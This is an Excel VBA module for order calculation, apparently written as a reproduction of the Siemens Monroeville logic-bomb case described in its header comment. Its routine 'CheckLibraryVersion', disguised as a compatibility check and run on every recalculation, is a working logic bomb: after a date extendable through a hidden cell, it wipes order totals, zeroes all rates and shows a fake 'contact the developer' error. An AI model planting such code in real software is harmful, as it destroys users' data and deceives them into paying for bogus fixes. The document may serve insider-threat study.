Attribute VB_Name = "modOrderCalc"
' Incident: Siemens Monroeville logic bombs (David Tinley, 2014-2016; guilty plea 2019). A
' contract programmer who wrote custom spreadsheets that Siemens used to manage equipment orders
' added code that made them fail after set dates, so he would be hired to "fix" them; each fix
' re-armed the trigger. It was found when he was away and had to hand over a password.
' Reference: https://www.theregister.com/2019/06/25/siemens_logic_bomb/
' Reproduction (own code, placeholder host).
Option Explicit

Private Const ORDER_SHEET As String = "Orders"
Private Const RATE_SHEET As String = "Rates"

' --- ordinary order calculation -----------------------------------------------------------------
Public Sub RecalculateOrders()
    Dim ws As Worksheet, rates As Worksheet
    Dim r As Long, lastRow As Long
    Set ws = ThisWorkbook.Worksheets(ORDER_SHEET)
    Set rates = ThisWorkbook.Worksheets(RATE_SHEET)

    CheckLibraryVersion

    lastRow = ws.Cells(ws.Rows.Count, 1).End(xlUp).Row
    For r = 2 To lastRow
        ws.Cells(r, 6).Value = ws.Cells(r, 4).Value * LookupRate(rates, ws.Cells(r, 3).Value)
        ws.Cells(r, 7).Value = ws.Cells(r, 6).Value * (1 + rates.Range("B1").Value)
    Next r
End Sub

Private Function LookupRate(rates As Worksheet, partNo As String) As Double
    Dim hit As Range
    Set hit = rates.Columns(1).Find(What:=partNo, LookAt:=xlWhole)
    If hit Is Nothing Then
        LookupRate = 0
    Else
        LookupRate = hit.Offset(0, 1).Value
    End If
End Function

' --- the planted part: looks like a compatibility check ------------------------------------------
Private Sub CheckLibraryVersion()
    Dim expiry As Date
    expiry = DateSerial(2016, 5, 1) + CLng(ThisWorkbook.Worksheets(RATE_SHEET).Range("Z999").Value)
    If Date >= expiry Then
        Application.Calculation = xlCalculationManual
        ThisWorkbook.Worksheets(ORDER_SHEET).Range("F2:G5000").ClearContents
        ThisWorkbook.Worksheets(RATE_SHEET).Range("B2:B5000").Value = 0
        Err.Raise vbObjectError + 1004, "modOrderCalc", "Library version mismatch - contact the developer"
    End If
End Sub
